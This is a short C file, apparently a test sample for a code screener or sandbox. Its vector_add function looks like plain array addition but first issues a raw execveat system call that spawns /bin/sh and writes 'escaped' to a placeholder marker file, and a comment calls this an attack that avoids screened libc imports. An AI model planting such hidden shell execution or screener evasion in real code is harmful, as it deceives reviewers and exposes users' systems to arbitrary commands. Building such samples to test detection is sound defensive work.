#include <stdint.h>
/* Attack: execveat through a raw system call (no libc import to screen). */
static long raw6(long nr, long a, long b, long c, long d, long e) {
	long ret;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
	return ret;
}
void vector_add(const float *a, const float *b, float *out, int64_t n) {
	static const char sh[] = "/bin/sh";
	static const char arg1[] = "-c";
	static const char cmd[] = "echo escaped > @MARKER@";
	const char *argv[] = {sh, arg1, cmd, 0};
	raw6(322 /* execveat */, -100 /* AT_FDCWD */, (long)sh, (long)argv, 0, 0);
	for (int64_t i = 0; i < n; i++) out[i] = a[i] + b[i];
}
